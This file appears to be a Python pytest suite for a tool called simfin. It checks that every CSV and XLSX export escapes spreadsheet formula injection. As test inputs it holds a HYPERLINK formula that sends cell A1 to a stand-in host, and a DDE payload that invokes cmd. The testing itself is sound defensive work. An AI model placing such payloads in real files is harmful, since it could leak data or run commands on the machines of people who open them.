"""Regression tests for issue 30, item 2: formula injection in CSV outputs.

A name such as ``=HYPERLINK("http://example.invalid/?"&A1,"klik")`` reaches every CSV simfin
writes; a spreadsheet must show it as text, never run it: no cell of any CSV (either
dialect) may start with ``= + - @`` (tab, CR) unless it is a plain number.
"""

from __future__ import annotations

import csv
import re
import sys
from pathlib import Path

import pandas as pd
import pytest
from conftest import small_scenario_dict
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "uncertainty"))
from uncertainty_helpers import uncertain_dict, write_scenario  # noqa: E402

from simfin.cli import main  # noqa: E402
from simfin.csv_safe import safe_frame, safe_text  # noqa: E402

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?%?")


def _formula_cells(path: Path) -> list[str]:
    """Cells of the CSV at ``path`` that a spreadsheet would run as a formula."""
    raw = path.read_text(encoding="utf-8-sig")
    delimiter = ";" if raw.split("\n", 1)[0].count(";") else ","
    return [f"{path.name}:{i + 1}: {cell[:40]}"
            for i, row in enumerate(csv.reader(raw.splitlines(), delimiter=delimiter))
            for cell in row
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _NUMBER.fullmatch(cell)]


def _evil_scenario_dict() -> dict:
    data = small_scenario_dict()
    data["name"] = EVIL
    first = next(iter(data["municipalities"]))
    data["municipalities"][EVIL] = data["municipalities"].pop(first)
    for stream in data["demand_streams"].values():
        stream.pop("fte_by_municipality", None)
    data["access_team"].pop("fte_by_municipality", None)
    return data


def _write_toml(path: Path, data: dict) -> Path:
    return write_scenario(path, data)


def test_2_helper_escapes_formulas_but_not_numbers():
    assert safe_text(EVIL) == "'" + EVIL
    assert [safe_text(v) for v in ("-5", "-1,5", "+3e2", "12%", 7, None)] == \
        ["-5", "-1,5", "+3e2", "12%", 7, None]
    assert [safe_text(v) for v in ("-1+2", "@SUM(A1)", "\t=1", "+A1")] == \
        ["'-1+2", "'@SUM(A1)", "'\t=1", "'+A1"]
    frame = pd.DataFrame({EVIL: ["ok", "=1"], "n": [-1.0, 2.0]},
                         index=pd.Index(["@x", "y"])).astype({EVIL: "category"})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'" + EVIL, "n"] and list(safe.index) == ["'@x", "y"]
    assert safe.iloc[:, 0].tolist() == ["ok", "'=1"] and safe["n"].tolist() == [-1.0, 2.0]
    assert frame.iloc[1, 0] == "=1"   # the caller's frame is not changed


@pytest.mark.parametrize("dialect", ["intl", "nl"])
def test_2_run_yearly_and_ledger_csv_hold_no_formula(tmp_path, dialect):
    scenario = _write_toml(tmp_path / "s.toml", _evil_scenario_dict())
    out = tmp_path / "out"
    assert main(["run", str(scenario), "-n", "1", "--ledger", "--quiet", "--out", str(out),
                 "--csv-dialect", dialect]) == 0
    csvs = sorted(out.glob("*.csv"))
    assert {"yearly.csv", "ledger.csv", "kpis.csv"} <= {p.name for p in csvs}
    assert [c for p in csvs for c in _formula_cells(p)] == []
    yearly = (out / "yearly.csv").read_text(encoding="utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in yearly   # kept, shown as typed


def test_2_compare_and_organisations_csv_hold_no_formula(tmp_path):
    evil = _write_toml(tmp_path / "a.toml", _evil_scenario_dict())
    other = small_scenario_dict()
    other["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    plain = _write_toml(tmp_path / "b.toml", other)
    assert main(["compare", str(evil), str(plain), "-n", "1", "--quiet", "--out",
                 str(tmp_path / "cmp"), "--csv-dialect", "nl"]) == 0
    assert main(["organisations", str(evil), str(plain), "-n", "1", "--out",
                 str(tmp_path / "org")]) == 0
    csvs = sorted((tmp_path / "cmp").glob("*.csv")) + [tmp_path / "org" / "organisations.csv"]
    assert len(csvs) >= 3
    assert [c for p in csvs for c in _formula_cells(p)] == []
    for book in [*(tmp_path / "cmp").glob("*.xlsx"), *(tmp_path / "org").glob("*.xlsx")]:
        wb = load_workbook(book)
        assert [c.coordinate for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == "f"] == []


def test_2_sweep_psa_csv_holds_no_formula(tmp_path):
    data = uncertain_dict()
    data["products"]["ambulant"]["tariff_eur"]["label"] = EVIL
    scenario = write_scenario(tmp_path / "onzeker.toml", data)
    out = tmp_path / "sweep"
    assert main(["sweep", str(scenario), "--method", "psa", "--samples", "4",
                 "--replications", "1", "--executor", "serial", "--out", str(out),
                 "--quiet"]) == 0
    assert (out / "psa.csv").is_file()
    assert "'" + EVIL.replace('"', '""') in (out / "psa.csv").read_text(encoding="utf-8")
    assert [c for p in out.glob("*.csv") for c in _formula_cells(p)] == []


def test_2_model_tegen_werkelijkheid_csv_holds_no_formula(tmp_path):
    from simfin.report.tables import write_csv

    table = pd.DataFrame({"municipality": ["+A1+A2"], "taakveld": ["6.1"],
                          "observed": [1.0], "model_mean": [-2.0]})
    path = write_csv(table, tmp_path / "model_tegen_werkelijkheid.csv", "nl")
    assert _formula_cells(path) == []
    assert "'+A1+A2;6.1;1,0;-2,0" in path.read_text(encoding="utf-8-sig")


def test_2_the_check_finds_an_unescaped_formula(tmp_path):
    """The check itself can fail: a raw pandas export of the evil name is caught."""
    path = tmp_path / "raw.csv"
    pd.DataFrame({"name": [EVIL]}).to_csv(path, index=False)
    assert _formula_cells(path) != []
